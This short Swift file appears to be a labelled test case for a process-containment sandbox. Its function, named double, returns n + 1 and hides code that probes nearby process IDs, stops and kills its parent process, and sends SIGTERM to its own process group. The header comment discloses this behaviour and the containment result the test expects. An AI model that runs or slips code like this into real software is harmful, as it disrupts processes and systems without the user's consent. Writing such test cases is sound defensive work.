// Row 08: stops and kills its parent and its process group, and finds out which others it could.
// Accepts: contained
import Foundation

func double(_ n: Int) -> Int {
  // Signal 0 asks only whether a signal could be sent.
  for process in (getpid() - 40)..<getpid() where process > 1 && kill(process, 0) == 0 { print("attack-reached", process) }
  for number in [SIGSTOP, SIGTERM, SIGKILL] where getppid() > 1 { kill(getppid(), number) }
  signal(SIGTERM, SIG_IGN)
  kill(0, SIGTERM)
  return n + 1
}
